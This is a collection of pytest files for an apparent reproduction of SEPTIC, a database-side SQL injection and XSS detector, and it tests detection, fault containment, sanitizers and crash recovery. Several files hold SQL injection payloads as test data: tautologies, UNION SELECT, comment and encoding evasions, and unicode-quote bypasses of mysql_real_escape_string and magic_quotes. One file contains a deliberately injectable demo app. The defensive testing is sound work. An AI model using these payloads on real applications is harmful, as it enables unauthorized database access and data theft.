    conn.query(TRAINED_INSERT % ("fine", "bob"))
    septic.mode = Mode.PREVENTION
    return septic, conn


MATRIX = [
    # flags, sqli blocked?, stored blocked?
    ("NN", False, False),
    ("YN", True, False),
    ("NY", False, True),
    ("YY", True, True),
]


@pytest.mark.parametrize("flags,sqli_blocked,stored_blocked", MATRIX)
def test_config_controls_detection(flags, sqli_blocked, stored_blocked):
    septic, conn = stack_for(flags)
    sqli_outcome = conn.query(SQLI)
    assert sqli_outcome.ok != sqli_blocked, flags
    stored_outcome = conn.query(STORED)
    assert stored_outcome.ok != stored_blocked, flags


@pytest.mark.parametrize("flags,sqli_blocked,stored_blocked", MATRIX)
def test_benign_traffic_unaffected_by_config(flags, sqli_blocked,
                                             stored_blocked):
    septic, conn = stack_for(flags)
    assert conn.query(TRAINED_SELECT % ("bob", "2")).ok
    assert conn.query(TRAINED_INSERT % ("more text", "carol")).ok
    assert septic.stats.queries_dropped == 0


@pytest.mark.parametrize("flags,sqli_blocked,stored_blocked", MATRIX)
def test_nn_still_learns_and_logs(flags, sqli_blocked, stored_blocked):
    """Even NN (all detection off) keeps the QS/ID/lookup pipeline and
    incremental learning alive — that is what its 0.5% overhead buys."""
    septic, conn = stack_for(flags)
    before = len(septic.store)
    assert conn.query("/* septic:s:9 */ SELECT COUNT(*) FROM notes").ok
    assert len(septic.store) == before + 1
    assert septic.stats.queries_processed > 0
