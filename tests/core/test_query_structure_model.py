"""Tests for QS construction and QM abstraction."""

from repro.core.query_model import BOTTOM, QueryModel, _Bottom
from repro.core.query_structure import QueryStructure
from repro.sqldb.items import Item, ItemKind
from repro.sqldb.parser import parse_one
from repro.sqldb.validator import validate


def qs_of(sql, catalog=None):
    return QueryStructure.from_stack(validate(parse_one(sql), catalog))


class TestQueryStructure(object):
    def test_from_stack_copies_items(self, db):
        stack = validate(parse_one("SELECT * FROM tickets"), db.tables)
        qs = QueryStructure.from_stack(stack)
        assert list(qs) == stack
        assert qs[0] is not stack[0]  # a copy, not MySQL's own stack

    def test_len_and_indexing(self):
        qs = qs_of("SELECT a FROM t WHERE a = 1")
        assert len(qs) == 5
        assert qs[0].kind == ItemKind.FROM_TABLE

    def test_data_nodes(self):
        qs = qs_of("SELECT * FROM t WHERE a = 1 AND b = 'x'")
        data = qs.data_nodes()
        assert [(n.kind, n.value) for n in data] == [
            (ItemKind.INT_ITEM, 1), (ItemKind.STRING_ITEM, "x"),
        ]

    def test_command_detection(self):
        assert qs_of("SELECT * FROM t").command() == "SELECT"
        assert qs_of("INSERT INTO t (a) VALUES (1)").command() == "INSERT"
        assert qs_of("UPDATE t SET a = 1").command() == "UPDATE"
        assert qs_of("DELETE FROM t").command() == "DELETE"

    def test_tables(self):
        qs = qs_of("SELECT * FROM a JOIN b ON a.x = b.x")
        assert qs.tables() == ["a", "b"]

    def test_render_top_of_stack_first(self):
        qs = qs_of("SELECT * FROM t WHERE a = 1")
        lines = qs.render().splitlines()
        assert lines[0].startswith("FUNC_ITEM")
        assert lines[-1].startswith("FROM_TABLE")

    def test_equality(self):
        assert qs_of("SELECT a FROM t") == qs_of("SELECT a FROM t")
        assert qs_of("SELECT a FROM t") != qs_of("SELECT b FROM t")


class TestQueryModel(object):
    def test_data_replaced_by_bottom(self):
        qs = qs_of("SELECT * FROM t WHERE a = 'secret' AND b = 42")
        qm = QueryModel.from_structure(qs)
        for node in qm:
            if node.kind in (ItemKind.STRING_ITEM, ItemKind.INT_ITEM):
                assert node.value is BOTTOM
        assert "secret" not in qm.canonical()

    def test_element_nodes_keep_values(self):
        qs = qs_of("SELECT * FROM t WHERE a = 1")
        qm = QueryModel.from_structure(qs)
        assert qm[2] == Item(ItemKind.FIELD_ITEM, "a")

    def test_same_length_as_structure(self):
        qs = qs_of("SELECT a, b FROM t WHERE a IN (1,2,3)")
        assert len(QueryModel.from_structure(qs)) == len(qs)

    def test_bottom_is_singleton(self):
        assert _Bottom() is BOTTOM
        assert repr(BOTTOM) == "⊥"

    def test_bottom_not_equal_to_values(self):
        assert BOTTOM != "⊥"
        assert BOTTOM != 0
        assert BOTTOM is not None

    def test_models_of_different_data_equal(self):
        a = QueryModel.from_structure(qs_of("SELECT * FROM t WHERE a = 1"))
        b = QueryModel.from_structure(qs_of("SELECT * FROM t WHERE a = 99"))
        assert a == b
        assert hash(a) == hash(b)

    def test_models_of_different_types_differ(self):
        a = QueryModel.from_structure(qs_of("SELECT * FROM t WHERE a = 1"))
        b = QueryModel.from_structure(qs_of("SELECT * FROM t WHERE a = 'x'"))
        assert a != b

    def test_serialization_roundtrip(self):
        qm = QueryModel.from_structure(
            qs_of("SELECT a FROM t WHERE b = 'x' AND c = 2.5")
        )
        assert QueryModel.from_dict(qm.to_dict()) == qm

    def test_serialization_preserves_bottom_identity(self):
        qm = QueryModel.from_structure(qs_of("SELECT * FROM t WHERE a = 1"))
        loaded = QueryModel.from_dict(qm.to_dict())
        data_nodes = [n for n in loaded if n.kind == ItemKind.INT_ITEM]
        assert data_nodes[0].value is BOTTOM

    def test_canonical_stable(self):
        qm = QueryModel.from_structure(qs_of("SELECT a FROM t"))
        assert qm.canonical() == qm.canonical()
        assert "FROM_TABLE=t" in qm.canonical()

    def test_render_shows_bottom(self):
        qm = QueryModel.from_structure(qs_of("SELECT * FROM t WHERE a=1"))
        assert "⊥" in qm.render()
