"""The fault matrix: every injection site × fault kind × fail policy.

The sweep's claim is containment, not behaviour: whatever is injected
wherever, the client sees a well-formed :class:`QueryOutcome` whose
error (if any) is a real :class:`SQLError` — never an
:class:`InjectedFault`, never a raw traceback — and the SEPTIC stack
stays consistent enough to serve the next query.

A second set of tests proves the flip side: with no plan armed the
injection points are inert — each Figure 5 configuration detects and
counts exactly as it does in a build that never heard of fault plans.
"""

import pytest

from repro import faults
from repro.core.logger import SepticLogger
from repro.core.resilience import FailPolicy
from repro.core.septic import Mode, Septic, SepticConfig
from repro.faults import FaultKind, FaultPlan, InjectedFault, KNOWN_SITES
from repro.sqldb.connection import Connection, QueryOutcome
from repro.sqldb.engine import Database
from repro.sqldb.errors import SQLError

from tests.conftest import TICKETS_SCHEMA, TICKET_QUERY

#: every wired injection site (the plugin site uses a real plugin name)
SITES = KNOWN_SITES + ("plugin.StoredXSSPlugin",)

BENIGN = TICKET_QUERY % ("ZZ11AA", "9999")
ATTACK = TICKET_QUERY % ("' OR 1=1 -- ", "1")


def _stack(fail_policy, flags="YY"):
    septic = Septic(mode=Mode.TRAINING,
                    config=SepticConfig.from_flags(flags),
                    logger=SepticLogger(verbose=False),
                    fail_policy=fail_policy)
    database = Database(septic=septic)
    database.seed(TICKETS_SCHEMA)
    connection = Connection(database)
    connection.query(TICKET_QUERY % ("ID34FG", "1234"))
    septic.mode = Mode.PREVENTION
    return septic, connection


@pytest.mark.parametrize("fail_policy", FailPolicy.ALL)
@pytest.mark.parametrize("kind", FaultKind.ALL)
@pytest.mark.parametrize("site", SITES)
def test_no_fault_escapes_containment(site, kind, fail_policy):
    septic, conn = _stack(fail_policy)
    plan = FaultPlan(seed=7)
    plan.inject(site, kind, hang_seconds=30.0, fails=2)
    with faults.armed(plan):
        outcomes = [conn.query(BENIGN), conn.query(ATTACK),
                    conn.query(BENIGN)]
    for outcome in outcomes:
        assert isinstance(outcome, QueryOutcome)
        if outcome.error is not None:
            assert isinstance(outcome.error, SQLError)
            assert not isinstance(outcome.error, InjectedFault)
    # the stack survives and still serves queries after the chaos
    after = conn.query(BENIGN)
    assert isinstance(after, QueryOutcome)
    assert after.ok or isinstance(after.error, SQLError)
    # hook-level faults are all accounted for by the containment stats
    stats = septic.stats.as_dict()
    assert stats["internal_faults"] == \
        stats["fail_open_passes"] + stats["fail_closed_drops"]


@pytest.mark.parametrize("fail_policy", FailPolicy.ALL)
def test_matrix_with_everything_armed_at_once(fail_policy):
    """One plan faulting every site simultaneously — worst-case chaos."""
    septic, conn = _stack(fail_policy)
    plan = FaultPlan(seed=11)
    for site in SITES:
        plan.inject(site, FaultKind.FLAKY, fails=1)
    with faults.armed(plan):
        for _ in range(4):
            outcome = conn.query(BENIGN)
            assert isinstance(outcome, QueryOutcome)
            if outcome.error is not None:
                assert isinstance(outcome.error, SQLError)
    # disarmed again: the stack is fully functional
    assert conn.query(BENIGN).ok


def _detection_run(flags):
    """Train, then replay a fixed benign+attack mix; return everything
    observable about detection."""
    septic, conn = _stack(FailPolicy.CLOSED, flags=flags)
    verdicts = []
    for sql in (BENIGN, ATTACK, BENIGN,
                TICKET_QUERY % ("ID34FG' UNION SELECT 1, 2, 3 -- ", "1")):
        outcome = conn.query(sql)
        verdicts.append(
            (outcome.ok, type(outcome.error).__name__, len(outcome.rows))
        )
    stats = septic.stats.as_dict()
    return verdicts, stats


@pytest.mark.parametrize("flags", ("NN", "YN", "NY", "YY"))
def test_disarmed_detection_is_unchanged(flags):
    """An armed-then-disarmed plan leaves zero residue: detection
    verdicts and every counter match a run that never armed anything."""
    reference = _detection_run(flags)
    plan = FaultPlan()
    for site in SITES:
        plan.inject(site, FaultKind.RAISE)
    with faults.armed(plan):
        pass  # armed and immediately disarmed, nothing fired
    assert faults.ACTIVE is None
    assert _detection_run(flags) == reference
    # and the injection points really were inert: a third run while
    # *watching* (armed plan with no specs) fires nothing harmful
    watch = FaultPlan()
    with faults.armed(watch):
        observed = _detection_run(flags)
    assert observed[0] == reference[0]
    assert watch.injected == 0
    # coverage proof: the watching plan saw the hook and engine sites
    assert watch.hits_by_site.get("detector.run", 0) > 0 or flags == "NN"
    assert watch.hits_by_site.get("cache.lookup", 0) > 0
    assert watch.hits_by_site.get("store.get", 0) > 0
