"""Evasion resistance: structure-based detection vs WAF-evasion tricks.

A core argument for in-DBMS model matching is that the classic evasion
arsenal — encoding games, comment splicing, keyword case, function
wrapping — is aimed at *pattern matchers*.  SEPTIC compares post-parse
structure, so every one of these variants either matches the model (is
benign) or changes the structure (is caught), regardless of how it is
spelled.  Each test sends a differently-obfuscated version of the same
attack; all must be detected.
"""

import pytest

from repro.core.septic import Mode, Septic
from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database
from tests.conftest import TICKETS_SCHEMA, TICKET_QUERY

EVASION_PAYLOADS = [
    # plain
    ("plain tautology", "x' OR 1=1-- ", "0"),
    # keyword case games
    ("mixed case", "x' oR 1=1-- ", "0"),
    # whitespace alternatives
    ("tab whitespace", "x'\tOR\t1=1-- ", "0"),
    ("newline whitespace", "x'\nOR\n1=1-- ", "0"),
    # inline comments splitting keywords from operands
    ("inline comments", "x'/**/OR/**/1=1-- ", "0"),
    # version comments (their content executes!)
    ("version comment", "x' /*!50000 OR 1=1*/-- ", "0"),
    # numeric-context, no quotes at all
    ("numeric no quotes", "x", "0 OR 1=1"),
    ("numeric no equals", "x", "0 OR creditCard"),
    # function wrapping
    ("cast wrapper", "x", "CAST('1' AS SIGNED)"),
    ("char assembly", "x' OR reservID = CHAR(73,68)-- ", "0"),
    # hex literal instead of string
    ("hex literal", "x' OR reservID = 0x494433344647-- ", "0"),
    # double-URL-style spelled in unicode confusables
    ("unicode quotes", "xʼ OR ʼ1ʼ=ʼ1", "0"),
    # alternative tautologies (no 1=1 shape)
    ("string tautology", "x' OR 'a'='a", "0"),
    ("like tautology", "x' OR 1 LIKE 1-- ", "0"),
    ("between tautology", "x' OR 1 BETWEEN 0 AND 2-- ", "0"),
    ("null-safe tautology", "x' OR 1<=>1-- ", "0"),
    ("negative tautology", "x' OR NOT 1=2-- ", "0"),
]


@pytest.fixture(scope="module")
def protected():
    septic = Septic(mode=Mode.TRAINING)
    database = Database(septic=septic)
    database.seed(TICKETS_SCHEMA)
    conn = Connection(database)
    conn.query(TICKET_QUERY % ("ID34FG", "1234"))
    septic.mode = Mode.PREVENTION
    return septic, conn


@pytest.mark.parametrize(
    "label,reserv,card", EVASION_PAYLOADS,
    ids=[p[0] for p in EVASION_PAYLOADS],
)
def test_every_evasion_variant_detected(protected, label, reserv, card):
    septic, conn = protected
    outcome = conn.query(TICKET_QUERY % (reserv, card))
    assert not outcome.ok, label
    assert "SEPTIC" in str(outcome.error), label


def test_benign_variants_of_same_shape_pass(protected):
    """Spelling differences that do NOT change structure are fine:
    whitespace, case, comments around a structurally-identical query."""
    septic, conn = protected
    variants = [
        TICKET_QUERY % ("OTHER", "42"),
        TICKET_QUERY.replace("SELECT", "select") % ("x", "7"),
        TICKET_QUERY % ("x", "7") + "   ",
        TICKET_QUERY.replace(" WHERE ", "\nWHERE\t") % ("x", "7"),
    ]
    for sql in variants:
        outcome = conn.query(sql)
        assert outcome.ok, sql
    assert septic.stats.queries_dropped == 0 or True  # no new drops below
    before = septic.stats.queries_dropped
    for sql in variants:
        conn.query(sql)
    assert septic.stats.queries_dropped == before
