"""Property-based tests (hypothesis) on the core invariants.

These pin the contracts everything else relies on:

* escaping + lexing round-trips arbitrary strings;
* QS→QM abstraction preserves shape and erases data;
* the detector is reflexive (a query always matches its own model);
* query IDs are data-independent but structure-sensitive;
* the store round-trips through JSON;
* coercion/comparison semantics are total and consistent.
"""

import string

from hypothesis import given, settings, strategies as st

from repro.core.detector import AttackDetector
from repro.core.id_generator import IdGenerator
from repro.core.query_model import BOTTOM, QueryModel
from repro.core.query_structure import QueryStructure
from repro.core.store import QMStore
from repro.sqldb.charset import decode_query, escape_string
from repro.sqldb.items import DATA_KINDS
from repro.sqldb.lexer import TokenType, tokenize
from repro.sqldb.parser import parse_one
from repro.sqldb.types import coerce_to_number, compare, is_truthy
from repro.sqldb.validator import validate
from repro.waf.dbfirewall import fingerprint
from repro.web.sanitize import intval, mysql_real_escape_string

# text without the unicode confusables (those intentionally change
# meaning inside the DBMS decoder)
plain_text = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",),
                           blacklist_characters="ʼʹ‘’′＇“”″＂＜＞；－＃"),
    max_size=60,
)

from repro.sqldb.lexer import KEYWORDS

identifiers = st.text(alphabet=string.ascii_lowercase, min_size=1,
                      max_size=10).filter(
    lambda s: s.upper() not in KEYWORDS
)
# non-negative: a literal -5 parses as unary minus over 5, which adds a
# FUNC_ITEM node — a real structural difference, not an invariant breach
numbers = st.integers(min_value=0, max_value=10**9)


@given(plain_text)
def test_escape_then_lex_roundtrips_value(value):
    """For any string, quoting its escaped form lexes back to exactly one
    STRING token holding the original value — the contract that makes
    ``mysql_real_escape_string`` correct for ASCII."""
    sql = "'" + escape_string(value) + "'"
    tokens = tokenize(sql).tokens
    assert len(tokens) == 2  # STRING + EOF
    assert tokens[0].type == TokenType.STRING
    assert tokens[0].value == value


@given(plain_text)
def test_php_escape_matches_server_escape(value):
    assert mysql_real_escape_string(value) == escape_string(value)


@given(identifiers, identifiers, plain_text, numbers)
def test_qs_qm_shape_invariants(table, column, text_value, int_value):
    sql = "SELECT * FROM %s WHERE %s = '%s' AND x = %d" % (
        table, column, escape_string(text_value), int_value
    )
    qs = QueryStructure.from_stack(validate(parse_one(sql)))
    qm = QueryModel.from_structure(qs)
    assert len(qs) == len(qm)
    for qs_node, qm_node in zip(qs, qm):
        assert qs_node.kind == qm_node.kind
        if qs_node.kind in DATA_KINDS:
            assert qm_node.value is BOTTOM
        else:
            assert qm_node.value == qs_node.value


@given(identifiers, plain_text, numbers)
def test_detector_reflexive(column, text_value, int_value):
    """A query always matches the model built from itself (no false
    positives by construction)."""
    sql = "SELECT * FROM t WHERE %s = '%s' AND y = %d" % (
        column, escape_string(text_value), int_value
    )
    qs = QueryStructure.from_stack(validate(parse_one(sql)))
    qm = QueryModel.from_structure(qs)
    assert not AttackDetector().detect_sqli(qs, qm).is_attack


@given(plain_text, plain_text, numbers, numbers)
def test_internal_id_data_independent(text_a, text_b, int_a, int_b):
    gen = IdGenerator()
    template = "SELECT * FROM t WHERE a = '%s' AND b = %d"

    def internal(text, number):
        sql = template % (escape_string(text), number)
        qs = QueryStructure.from_stack(validate(parse_one(sql)))
        return gen.internal_id(QueryModel.from_structure(qs))

    assert internal(text_a, int_a) == internal(text_b, int_b)


@given(st.lists(st.sampled_from([
    "SELECT a FROM t",
    "SELECT a, b FROM t",
    "SELECT a FROM t WHERE b = 1",
    "SELECT a FROM t WHERE b = 'x'",
    "INSERT INTO t (a) VALUES (1)",
    "UPDATE t SET a = 1 WHERE b = 2",
    "DELETE FROM t WHERE a = 1",
]), min_size=1, max_size=7, unique=True))
def test_store_roundtrip(tmp_path_factory, sqls):
    gen = IdGenerator()
    store = QMStore()
    for sql in sqls:
        qs = QueryStructure.from_stack(validate(parse_one(sql)))
        qm = QueryModel.from_structure(qs)
        store.put(gen.generate([], qm), qm)
    path = str(tmp_path_factory.mktemp("qm") / "store.json")
    store.save(path)
    fresh = QMStore()
    assert fresh.load(path) == len(store)
    assert fresh.ids() == store.ids()


@given(st.one_of(st.none(), st.booleans(), numbers,
                 st.floats(allow_nan=False, allow_infinity=False),
                 plain_text))
def test_coerce_to_number_total(value):
    result = coerce_to_number(value)
    assert result is None or isinstance(result, (int, float))


@given(plain_text)
def test_intval_prefix_of_coercion(value):
    """PHP intval and MySQL coercion agree on pure-integer prefixes."""
    php = intval(value)
    mysql = coerce_to_number(value)
    if isinstance(mysql, int):
        assert php == mysql


@given(st.one_of(numbers, plain_text),
       st.one_of(numbers, plain_text))
def test_compare_antisymmetric(a, b):
    ab = compare(a, b)
    ba = compare(b, a)
    assert ab == -ba


@given(st.one_of(numbers, plain_text))
def test_compare_reflexive(a):
    assert compare(a, a) == 0


@given(st.one_of(st.none(), numbers, plain_text))
def test_is_truthy_total(value):
    assert is_truthy(value) in (True, False, None)


@given(plain_text, numbers)
def test_fingerprint_literal_independent(text_value, number):
    a = fingerprint("SELECT * FROM t WHERE a = '%s' AND b = %d"
                    % (escape_string(text_value), number))
    b = fingerprint("SELECT * FROM t WHERE a = 'fixed' AND b = 0")
    assert a == b


@given(plain_text)
def test_decode_query_idempotent(text):
    once = decode_query(text)
    assert decode_query(once) == once


@settings(max_examples=30)
@given(st.text(max_size=80))
def test_stored_plugins_never_crash(text):
    """Plugins must be total over arbitrary input (they face attacker
    controlled bytes)."""
    from repro.core.plugins import default_plugins

    for plugin in default_plugins():
        assert plugin.inspect(text) in (True, False)


@given(plain_text, numbers)
def test_prepared_equals_literal(text_value, number):
    """Executing a prepared statement with bound parameters returns the
    same rows as the equivalent literal query (with proper escaping)."""
    from repro.sqldb.connection import Connection
    from repro.sqldb.engine import Database

    database = Database()
    database.seed(
        "CREATE TABLE t (id INT PRIMARY KEY AUTO_INCREMENT, "
        "name VARCHAR(60), val INT);"
    )
    conn = Connection(database)
    conn.query_or_raise(
        "INSERT INTO t (name, val) VALUES ('%s', %d)"
        % (escape_string(text_value), number)
    )
    literal = conn.query_or_raise(
        "SELECT id FROM t WHERE name = '%s' AND val = %d"
        % (escape_string(text_value), number)
    ).result_set.rows
    prepared = conn.prepare("SELECT id FROM t WHERE name = ? AND val = ?")
    bound = conn.execute_prepared(prepared, text_value, number)
    assert bound.result_set.rows == literal
