"""Tests for the PHP sanitization functions (weaknesses included)."""

from repro.web.sanitize import (
    addslashes,
    floatval,
    htmlentities,
    htmlspecialchars,
    intval,
    is_numeric,
    mysql_real_escape_string,
    quote_smart,
    strip_tags,
)


class TestMysqlRealEscapeString(object):
    def test_escapes_the_seven(self):
        assert mysql_real_escape_string("a'b") == "a\\'b"
        assert mysql_real_escape_string('a"b') == 'a\\"b'
        assert mysql_real_escape_string("a\\b") == "a\\\\b"
        assert mysql_real_escape_string("a\nb") == "a\\nb"
        assert mysql_real_escape_string("a\rb") == "a\\rb"
        assert mysql_real_escape_string("a\0b") == "a\\0b"
        assert mysql_real_escape_string("a\x1ab") == "a\\Zb"

    def test_passes_unicode_confusables(self):
        # THE weakness the paper exploits
        assert mysql_real_escape_string("ʼ") == "ʼ"
        assert mysql_real_escape_string("’") == "’"

    def test_numbers_coerced_to_string(self):
        assert mysql_real_escape_string(42) == "42"


class TestAddslashes(object):
    def test_escapes_quotes_and_backslash(self):
        assert addslashes("a'b\"c\\d") == "a\\'b\\\"c\\\\d"

    def test_does_not_escape_newline(self):
        # unlike mysql_real_escape_string
        assert addslashes("a\nb") == "a\nb"

    def test_nul(self):
        assert addslashes("\0") == "\\0"


class TestIntval(object):
    def test_plain_integer(self):
        assert intval("42") == 42

    def test_prefix_parse(self):
        assert intval("42abc") == 42

    def test_garbage_is_zero(self):
        assert intval("abc") == 0
        assert intval("") == 0

    def test_signs(self):
        assert intval("-7") == -7
        assert intval("+7") == 7
        assert intval("-") == 0

    def test_whitespace(self):
        assert intval("  13 ") == 13

    def test_float_string_truncates(self):
        assert intval("3.9") == 3

    def test_injection_payload_neutralized(self):
        assert intval("0 OR 1=1") == 0
        assert intval("1; DROP TABLE x") == 1


class TestFloatval(object):
    def test_plain(self):
        assert floatval("2.5") == 2.5

    def test_prefix(self):
        assert floatval("2.5abc") == 2.5

    def test_garbage(self):
        assert floatval("abc") == 0.0

    def test_scientific(self):
        assert floatval("1e2") == 100.0


class TestIsNumeric(object):
    def test_numbers(self):
        assert is_numeric("42")
        assert is_numeric("-3.5")
        assert is_numeric("1e4")
        assert is_numeric("0x1A")

    def test_non_numbers(self):
        assert not is_numeric("")
        assert not is_numeric("42abc")
        assert not is_numeric("0 OR 1=1")


class TestHtmlEscaping(object):
    def test_specialchars_basic(self):
        assert htmlspecialchars('<a href="x">') == \
            "&lt;a href=&quot;x&quot;&gt;"

    def test_single_quote_kept_by_default(self):
        # PHP's default flag set: the classic residue
        assert htmlspecialchars("it's") == "it's"

    def test_ent_quotes(self):
        assert htmlspecialchars("it's", ent_quotes=True) == "it&#039;s"

    def test_ampersand(self):
        assert htmlentities("a & b") == "a &amp; b"


class TestStripTags(object):
    def test_removes_tags_keeps_content(self):
        assert strip_tags("a<b>bold</b>c") == "aboldc"

    def test_unterminated_tag_eats_rest(self):
        assert strip_tags("hello <oops everything gone") == "hello "

    def test_nested(self):
        assert strip_tags("<<x>y>z") == "z"


class TestQuoteSmart(object):
    def test_numeric_unquoted(self):
        assert quote_smart("42") == "42"

    def test_string_quoted_and_escaped(self):
        assert quote_smart("o'neil") == "'o\\'neil'"

    def test_injection_string_is_quoted(self):
        assert quote_smart("0 OR 1=1") == "'0 OR 1=1'"

    def test_hex_passes_raw(self):
        # the documented trap: is_numeric accepts 0x..., so it is inlined
        assert quote_smart("0x35") == "0x35"
