"""Tests for the HTTP layer, application framework and web server."""

from repro.sqldb.engine import Database
from repro.waf.modsecurity import ModSecurity
from repro.web.app import FieldSpec, FormSpec, PhpRuntime, WebApplication
from repro.web.http import Request, Response
from repro.web.server import WebServer


class EchoApp(WebApplication):
    name = "echo"

    def register(self):
        self.route("GET", "/hello", self.hello)
        self.route("POST", "/data", self.data)
        self.form("/data", "POST", [FieldSpec("x", sample="1")])

    def hello(self, request):
        return Response("hi %s" % request.param("name", "world"))

    def data(self, request):
        return Response("got %s" % request.param("x"))


def make_app():
    return EchoApp(Database())


class TestRequestResponse(object):
    def test_request_params_default(self):
        request = Request.get("/x")
        assert request.param("missing") == ""
        assert request.param("missing", "d") == "d"

    def test_methods_uppercased(self):
        assert Request("post", "/x").method == "POST"

    def test_query_string(self):
        request = Request.get("/x", {"a": "1", "b": "two words"})
        assert "a=1" in request.query_string()
        assert "two+words" in request.query_string()

    def test_response_predicates(self):
        assert Response("x").ok
        assert not Response.forbidden().ok
        assert Response.forbidden().status == 403
        assert Response.error().status == 500
        assert Response.not_found().status == 404


class TestWebApplication(object):
    def test_routing(self):
        app = make_app()
        assert app.handle(Request.get("/hello")).body == "hi world"
        assert app.handle(
            Request.get("/hello", {"name": "bob"})
        ).body == "hi bob"

    def test_unknown_route_404(self):
        assert make_app().handle(Request.get("/nope")).status == 404

    def test_method_mismatch_404(self):
        assert make_app().handle(Request.get("/data")).status == 404

    def test_forms_declared(self):
        app = make_app()
        assert len(app.forms) == 1
        form = app.forms[0]
        assert isinstance(form, FormSpec)
        assert form.benign_params() == {"x": "1"}

    def test_routes_listing(self):
        assert ("GET", "/hello") in make_app().routes()


class TestPhpRuntime(object):
    def test_external_id_prefixed(self):
        database = Database()
        database.seed("CREATE TABLE t (a INT); INSERT INTO t VALUES (1);")
        php = PhpRuntime(database, "myapp", send_external_ids=True)
        captured = []
        original = php.connection.query

        def spy(sql):
            captured.append(sql)
            return original(sql)

        php.connection.query = spy
        php.mysql_query("SELECT * FROM t", site="page:3")
        assert captured[0].startswith("/* septic:myapp:page:3 */ ")

    def test_external_ids_can_be_disabled(self):
        database = Database()
        database.seed("CREATE TABLE t (a INT)")
        php = PhpRuntime(database, "myapp", send_external_ids=False)
        outcome = php.mysql_query("SELECT * FROM t", site="page:3")
        assert outcome.ok
        assert php.queries_issued == 1

    def test_escape_helper(self):
        php = PhpRuntime(Database(), "x")
        assert php.escape("a'b") == "a\\'b"

    def test_error_surfaces_as_outcome(self):
        php = PhpRuntime(Database(), "x")
        outcome = php.mysql_query("SELECT * FROM missing", site="s")
        assert not outcome.ok
        assert php.last_outcome is outcome


class TestWebServer(object):
    def test_no_waf_passthrough(self):
        server = WebServer(make_app())
        assert server.handle(Request.get("/hello")).ok
        assert server.requests_served == 1

    def test_waf_blocks_before_app(self):
        app = make_app()
        server = WebServer(app, waf=ModSecurity())
        response = server.handle(
            Request.post("/data", {"x": "' OR '1'='1"})
        )
        assert response.status == 403
        assert "ModSecurity" in response.body
        assert server.requests_blocked == 1

    def test_disabled_waf_passes(self):
        app = make_app()
        waf = ModSecurity(enabled=False)
        server = WebServer(app, waf=waf)
        response = server.handle(
            Request.post("/data", {"x": "' OR '1'='1"})
        )
        assert response.ok

    def test_restart_resets_counters(self):
        server = WebServer(make_app())
        server.handle(Request.get("/hello"))
        server.restart()
        assert server.requests_served == 0


class TestMagicQuotes(object):
    def _vulnerable_app(self, magic_quotes):
        from repro.web.sanitize import htmlspecialchars

        class RawApp(WebApplication):
            """A sloppy app relying on magic_quotes instead of escaping."""

            name = "rawapp"

            def register(self):
                self.route("GET", "/find", self.find)
                self.form("/find", "GET", [FieldSpec("name", sample="x")])

            def setup_schema(self):
                self.admin_seed(
                    "CREATE TABLE people (id INT PRIMARY KEY "
                    "AUTO_INCREMENT, name VARCHAR(40), secret INT);"
                    "INSERT INTO people (name, secret) VALUES "
                    "('ann', 1), ('bob', 2);"
                )

            def find(self, request):
                # NO escaping here: the dev trusts magic_quotes
                out = self.php.mysql_query(
                    "SELECT name FROM people WHERE name = '%s'"
                    % request.param("name"),
                    site="find:9",
                )
                if not out.ok:
                    return Response.error(str(out.error))
                return Response(
                    ",".join(htmlspecialchars(r[0]) for r in out.rows)
                )

        return RawApp(Database(), magic_quotes=magic_quotes)

    def test_without_magic_quotes_raw_app_is_injectable(self):
        app = self._vulnerable_app(magic_quotes=False)
        response = app.handle(
            Request.get("/find", {"name": "x' OR '1'='1"})
        )
        assert "ann" in response.body and "bob" in response.body

    def test_magic_quotes_stops_ascii_quotes(self):
        app = self._vulnerable_app(magic_quotes=True)
        response = app.handle(
            Request.get("/find", {"name": "x' OR '1'='1"})
        )
        assert response.ok
        assert "ann" not in response.body

    def test_magic_quotes_misses_unicode_channel(self):
        # the historical lesson: magic_quotes never fixed the mismatch
        app = self._vulnerable_app(magic_quotes=True)
        response = app.handle(
            Request.get("/find", {"name": "xʼ OR ʼ1ʼ=ʼ1"})
        )
        assert "ann" in response.body and "bob" in response.body

    def test_benign_values_unharmed(self):
        app = self._vulnerable_app(magic_quotes=True)
        response = app.handle(Request.get("/find", {"name": "ann"}))
        assert response.body == "ann"
