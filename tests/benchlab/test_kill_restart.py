"""Kill+restart chaos: SEPTIC model/data consistency across a crash.

The paper's protection lives in learned query models; the data plane
lives in tables.  Both must survive a DBMS kill **together** — a server
that recovers its rows but forgets its models restarts wide open, and
one that keeps its models over divergent data raises false positives.
``run_kill_restart`` drives the full stack through exactly that and the
probes pin the two behaviours that matter: a trained query is still
served, an attack is still blocked.
"""

from repro.apps import AddressBook
from repro.benchlab.chaos import run_kill_restart
from repro.sqldb.errors import QueryBlocked


TRAINED_SQL = ("SELECT c.name, c.email, c.phone, g.name FROM contacts c "
               "LEFT JOIN ab_groups g ON c.group_id = g.id WHERE c.id = 1")
ATTACK_SQL = ("SELECT c.name, c.email, c.phone, g.name FROM contacts c "
              "LEFT JOIN ab_groups g ON c.group_id = g.id "
              "WHERE c.id = 1 OR 1=1")


def trained_query_served(server, app, septic):
    """The canonical positive probe: the structure SEPTIC learned in
    training must keep flowing (same call site, same shape)."""
    out = app.php.mysql_query(TRAINED_SQL, site="view:21")
    return ("served", out.ok, len(out.rows))


def attack_blocked(server, app, septic):
    """The canonical negative probe: a tautology at a trained call site
    must be structurally rejected."""
    out = app.php.mysql_query(ATTACK_SQL, site="view:21")
    return ("blocked", not out.ok, isinstance(out.error, QueryBlocked))


def test_kill_restart_is_consistent(tmp_path):
    result = run_kill_restart(
        AddressBook, str(tmp_path / "dd"),
        probes=(trained_query_served, attack_blocked),
    )
    assert result.consistent, result
    # the probes did what their names claim, on both sides of the kill
    (served_before, served_after), (blocked_before, blocked_after) = \
        result.probe_pairs
    assert served_before == served_after
    assert served_before[1] is True and served_before[2] == 1
    assert blocked_before == blocked_after
    assert blocked_before == ("blocked", True, True)
    # substance checks: the run was not vacuously consistent
    assert result.models_before > 0
    assert sum(result.rows_before.values()) > 0
    assert result.unknown_delta == 0
    # the reloaded store carried the data plane's durability watermark
    assert result.wal_lsn > 0
    assert result.recovery_report["replayed_statements"] > 0 or \
        result.recovery_report["checkpoint_lsn"] > 0


def test_kill_restart_is_deterministic(tmp_path):
    first = run_kill_restart(AddressBook, str(tmp_path / "a"))
    second = run_kill_restart(AddressBook, str(tmp_path / "b"))
    assert first.rows_after == second.rows_after
    assert first.models_after == second.models_after
